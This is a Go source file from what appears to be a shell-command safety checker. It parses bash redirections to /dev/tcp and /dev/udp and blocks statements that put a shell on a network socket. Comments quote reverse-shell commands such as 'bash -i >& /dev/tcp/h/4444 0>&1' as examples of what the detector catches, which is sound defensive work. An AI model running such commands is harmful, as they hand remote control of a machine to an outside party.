package hardline

import (
	"path"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// netDevice returns the bash network pseudo-device a redirection names
// (/dev/tcp/HOST/PORT, /dev/udp/HOST/PORT: bash opens a socket instead of a
// file), or "". A target that is not static counts when its literal start
// already names one (>& /dev/tcp/$HOST/4444).
func netDevice(w *syntax.Word, f field) string {
	v := f.val
	switch {
	case f.dyn:
		v = literalStart(w)
	case !strings.Contains(v, "tcp") && !strings.Contains(v, "udp"):
		// Cleaning keeps the names it is given: without one of these
		// there is no /dev/tcp or /dev/udp to find.
		return ""
	default:
		v = path.Clean(v)
	}
	if strings.HasPrefix(v, "/dev/tcp/") || strings.HasPrefix(v, "/dev/udp/") {
		return v
	}
	return ""
}

// literalStart is the text a word starts with before its first expansion.
func literalStart(w *syntax.Word) string {
	return literalText(w, false)
}

// literalText is the literal text of a word: up to its first expansion,
// or, with holes, whole with a NUL standing for each expansion.
func literalText(w *syntax.Word, holes bool) string {
	if w == nil {
		return ""
	}
	var b strings.Builder
	hole := func() bool {
		if holes {
			b.WriteByte(0)
		}
		return holes
	}
	for _, p := range w.Parts {
		switch p := p.(type) {
		case *syntax.Lit:
			b.WriteString(p.Value)
		case *syntax.SglQuoted:
			b.WriteString(p.Value)
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				if l, ok := q.(*syntax.Lit); ok {
					b.WriteString(l.Value)
				} else if !hole() {
					return b.String()
				}
			}
		default:
			if !hole() {
				return b.String()
			}
		}
	}
	return b.String()
}

// netShell judges a statement whose redirections put a file descriptor on
// the network: a shell or interpreter run with it (through any wrapper)
// hands a peer a program to drive, and so does exec, which keeps the socket
// open for what follows, or a compound command, whose every command
// inherits it. Both are reverse shells (bash -i >& /dev/tcp/h/4444 0>&1).
func (r *run) netShell(b string, c ctx, cmd string) {
	if c.net == "" {
		return
	}
	r.finding(ruleReverseShell, Command, Block, b+" runs with a file descriptor on the network connection "+c.net+": a peer drives it", cmd, c.net)
}
